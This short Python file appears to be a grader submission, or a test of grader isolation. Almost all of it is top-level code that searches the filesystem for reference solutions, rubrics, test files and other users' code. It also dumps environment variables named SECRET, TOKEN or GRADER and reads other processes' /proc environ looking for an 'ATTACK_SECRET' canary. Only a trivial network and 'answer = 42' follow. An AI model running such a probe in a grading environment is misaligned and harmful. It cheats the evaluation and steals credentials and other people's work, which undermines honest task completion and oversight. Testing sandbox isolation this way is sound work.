"""Looks for the reference, the rubric, other submissions, the grader's environment and /proc."""
import glob
import os

from torch import nn

import grader

found = []
project = os.path.dirname(os.path.dirname(grader.__file__))
for pattern in (f"{project}/reference/**/*.py", f"{project}/rubrics/*.yaml", f"{project}/tests/**/*.yaml",
                "/work/**/reference/**/*.py", "/tmp/**/*.ipynb", "/tmp/**/rubric.yaml", "/root/**/*.yaml",
                "/home/**/*.py"):
    for path in glob.glob(pattern, recursive=True):
        if "/home/student/work" in path:
            continue  # its own copy
        try:
            open(path).read(1)
            found.append(path)
        except OSError:
            pass
secrets = {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k or k.startswith("GRADER")}
pids = [p for p in os.listdir("/proc") if p.isdigit()]
environs = []
for pid in pids:
    try:
        environs.append(open(f"/proc/{pid}/environ", "rb").read()[:100])
    except OSError:
        pass
print("READ FILES:", len(found), found[:5])
print("SECRETS:", secrets)
print("PROCESSES VISIBLE:", len(pids))
print("FOREIGN ENVIRON:", [e for e in environs if b"ATTACK_SECRET" in e])


def make_net(n_in, n_out):
    return nn.Sequential(nn.Linear(n_in, 3), nn.ReLU(), nn.Linear(3, n_out))


answer = 42
